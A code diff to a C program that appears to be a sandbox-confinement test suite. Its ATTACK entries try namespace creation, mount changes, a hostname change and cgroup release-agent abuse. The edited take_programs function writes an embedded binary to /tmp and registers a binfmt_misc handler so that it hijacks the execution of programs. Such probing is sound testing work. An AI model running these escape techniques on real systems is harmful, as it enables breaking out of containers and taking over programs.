@@ -36,7 +36,7 @@ ATTACK(new_ipc, "make an IPC namespace", 5) { return unshared(CLONE_NEWIPC); }
 ATTACK(new_time, "make a time namespace", 5) { return unshared(CLONE_NEWTIME); }
 ATTACK(new_cgroup, "make a cgroup namespace", 5) { return unshared(CLONE_NEWCGROUP); }
 
-static int mounted(const char *kind) {
+int mounted(const char *kind) {
     char target[64];
     snprintf(target, sizeof target, "/tmp/mounted-%s", kind);
     mkdir(target, 0700);
@@ -73,18 +73,21 @@ CALL(change_mounts, "change a mount by mount_setattr", syscall(SYS_mount_setattr
  * and the taker is not. It has opened the taker (F), so that the file need not be where those programs are. */
 __asm__(".section .rodata\ntaker: .incbin \"" TAKER "\"\ntaker_end:\n.previous\n");
 extern const char taker[], taker_end[];
-int take_programs(void) {
-    static const char rule[] = ":attack:M:16:\\x03\\x00::/tmp/taker:F";
-    int fd = open("/tmp/taker", O_WRONLY | O_CREAT | O_CLOEXEC, 0755);
+int take_programs(const char *name) {
+    char path[64], rule[96];
+    snprintf(path, sizeof path, "/tmp/%s", name);
+    snprintf(rule, sizeof rule, ":attack:M:16:\\x03\\x00::%s:F", path);
+    unlink(path); /* what the kernel has opened to run it, nobody may write */
+    int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0755);
     if (fd < 0) return -1;
     ssize_t n = write(fd, taker, (size_t)(taker_end - taker));
     close(fd);
     if (n != taker_end - taker || mounted("binfmt_misc") != 0 || (fd = open("/tmp/mounted-binfmt_misc/register", O_WRONLY | O_CLOEXEC)) < 0) return -1;
-    n = write(fd, rule, sizeof rule - 1);
+    n = write(fd, rule, strlen(rule));
     close(fd);
-    return n == sizeof rule - 1 ? done("registered a format") : -1;
+    return n == (ssize_t)strlen(rule) ? done("registered a format") : -1;
 }
-ATTACK(own_programs, "take over the programs of its user namespace", 5) { return take_programs(); }
+ATTACK(own_programs, "take over the programs of its user namespace", 5) { return take_programs("taker"); }
 ATTACK(host_name, "change the name of the host", 5) { return sethostname("attack", 6) == 0 ? done("it has another name") : -1; }
 
 static int release_agent(const char *kind) {
